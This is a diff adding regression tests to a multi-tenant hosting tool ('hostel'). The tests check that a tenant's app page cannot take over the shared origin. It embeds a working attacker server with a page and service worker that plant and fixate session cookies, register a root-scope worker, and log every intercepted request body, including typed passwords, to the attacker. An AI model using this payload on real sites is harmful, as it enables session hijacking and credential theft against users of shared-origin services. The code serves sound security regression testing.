@@ -173,3 +173,145 @@ fn the_admin_dashboard_creates_and_purges_a_tenant() {
     assert_eq!(r.code, 3, "{r:?}");
     assert!(!t.home(&name).exists());
 }
+
+/// What the attacker's app serves (any path): a page that tries to take hostel's origin over
+/// with a service worker and planted cookies, the worker, and a log of every request it sees,
+/// bodies included, in `~/evil.log`.
+const EVIL_SERVER: &str = r#"
+import http.server, sys, os
+LOG = os.path.expanduser("~/evil.log")
+PAGE = b"""<!doctype html><title>evil</title><script>
+(async () => {
+  const r = {};
+  try { await navigator.serviceWorker.register("sw.js", { scope: "/" }); r.sw_root = true; }
+  catch (e) { r.sw_root = false; r.sw_root_error = String(e); }
+  try { await navigator.serviceWorker.register("sw.js"); r.sw_own = true; }
+  catch (e) { r.sw_own = false; }
+  for (const path of ["/portal", "/login", "/admin"]) document.cookie = `hostel_session=planted; path=${path}`;
+  if (location.hostname.endsWith(".hostel.test")) document.cookie = "hostel_session=planted; path=/; domain=hostel.test";
+  window.attack = r;
+})();
+</script>"""
+WORKER = b"""
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (e) => {
+  const req = e.request.clone();
+  e.waitUntil(req.text().then((b) => fetch("log", { method: "POST", body: req.url + " " + b })).catch(() => {}));
+});
+"""
+class H(http.server.BaseHTTPRequestHandler):
+    def answer(self):
+        n = int(self.headers.get("content-length") or 0)
+        body = self.rfile.read(n) if n else b""
+        with open(LOG, "ab") as f:
+            f.write(b"%s %s %s\n" % (self.command.encode(), self.path.encode(), body))
+        if self.path.endswith("sw.js"):
+            data, kind = WORKER, "application/javascript"
+        else:
+            data, kind = PAGE, "text/html"
+        self.send_response(200)
+        self.send_header("content-type", kind)
+        self.send_header("service-worker-allowed", "/")
+        self.send_header("set-cookie", "hostel_session=fixated; Path=/")
+        self.send_header("set-cookie", "planted_admin=1; Path=/admin")
+        self.send_header("content-length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+    do_GET = do_POST = answer
+    def log_message(self, *a):
+        pass
+http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
+"#;
+
+/// Regression (#12): a tenant's app page registered a service worker for `/` on the origin it
+/// shared with hostel, planted cookies for hostel's paths and read a password typed into
+/// hostel's sign-in page in the same browser later. In both modes, nothing of it works.
+fn origin_attack(domain: bool) {
+    let config = if domain {
+        "\n[http]\ndomain = \"hostel.test\"\n"
+    } else {
+        "\n[http]\nhosts = [\"hostel.test\"]\n"
+    };
+    let t = TestRun::with_config(BIN, config);
+    // On a shared origin the page must come from an app (the dev image's JupyterLab port);
+    // on its own, from a port the tenant publishes.
+    let evil = if domain {
+        t.create_tenant("evil", &[])
+    } else {
+        t.create_tenant("evil", &["--image", "dev"])
+    };
+    let victim = t.create_tenant("victim", &[]);
+    with_password(&t, &evil);
+    with_password(&t, &victim);
+    let port = if domain { 8000 } else { 8888 };
+    let started = t.sh(
+        &evil,
+        &format!(
+            "cat > ~/evil.py <<'PY'\n{EVIL_SERVER}\nPY\n\
+             (nohup python3 ~/evil.py {port} >/dev/null 2>&1 &); \
+             for i in $(seq 50); do grep -q ':{port:04X} ' /proc/net/tcp && exit 0; sleep 0.1; done; exit 1"
+        ),
+    );
+    assert_eq!(started.code, 0, "{}", started.stderr);
+    if domain {
+        t.hostel(&["port", "publish", &evil, "8000"]).ok();
+    }
+    let d = t.serve();
+    let base = format!("http://hostel.test:{}", d.http_port);
+    let attack_url = if domain {
+        format!(
+            "http://8000--{evil}.hostel.test:{}/attack.html",
+            d.http_port
+        )
+    } else {
+        format!("{base}/u/{evil}/jupyter/attack.html")
+    };
+    let found = browser(
+        &d,
+        "origin-attack",
+        &[
+            ("HOSTEL_URL", base.as_str()),
+            ("HOSTEL_EVIL", evil.as_str()),
+            ("HOSTEL_TENANT", victim.as_str()),
+            ("HOSTEL_PASSWORD", PASSWORD),
+            ("HOSTEL_ATTACK_URL", attack_url.as_str()),
+        ],
+    );
+    let log = t.sh(&evil, "cat ~/evil.log").stdout;
+    assert!(log.contains("attack.html"), "the page was served: {log}");
+    assert!(
+        !log.contains("horse") && !log.contains(&format!("name={victim}")),
+        "the victim's sign-in reached the attacker:\n{log}"
+    );
+    assert_eq!(found["controlled"], false, "{found}");
+    assert_ne!(
+        found["heading"],
+        evil.as_str(),
+        "signed in as the attacker: {found}"
+    );
+    let cookies = found["cookies"].to_string();
+    assert!(
+        !cookies.contains("fixated") && !cookies.contains("planted_admin"),
+        "{cookies}"
+    );
+    if domain {
+        assert_eq!(
+            found["attack_origin"],
+            format!("http://8000--{evil}.hostel.test:{}", d.http_port)
+        );
+    } else {
+        assert_eq!(found["attack"]["sw_root"], false, "{found}");
+        assert_eq!(found["attack"]["sw_own"], false, "{found}");
+    }
+}
+
+#[test]
+fn issue_12_an_app_page_cannot_take_over_a_shared_origin() {
+    origin_attack(false);
+}
+
+#[test]
+fn issue_12_an_app_page_on_its_own_origin_cannot_reach_hostels() {
+    origin_attack(true);
+}
